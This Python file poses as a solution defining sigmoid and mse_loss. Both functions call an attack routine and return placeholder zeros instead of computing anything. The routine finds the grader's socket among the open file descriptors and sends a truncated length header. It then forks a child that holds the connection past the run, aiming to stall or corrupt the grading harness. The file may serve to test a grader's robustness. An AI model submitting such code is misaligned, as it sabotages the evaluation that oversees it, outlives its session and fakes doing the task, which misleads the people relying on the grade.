"""Sends three of the eight bytes of a length, ends, and leaves a child that holds the socket.

aims: stay
"""

import os
import socket
import stat
import time

import numpy as np


def channel():
    """The socket to the grader: the first connected stream socket among the open descriptors."""
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return socket.socket(fileno=os.dup(descriptor))
        except OSError:
            continue
    raise NotImplementedError("no socket found")


def attack():
    connection = channel()
    connection.sendall(b"abc")
    if os.fork() == 0:
        time.sleep(30)
        os._exit(0)
    os._exit(0)


def sigmoid(Z):
    attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    attack()
    return 0.0
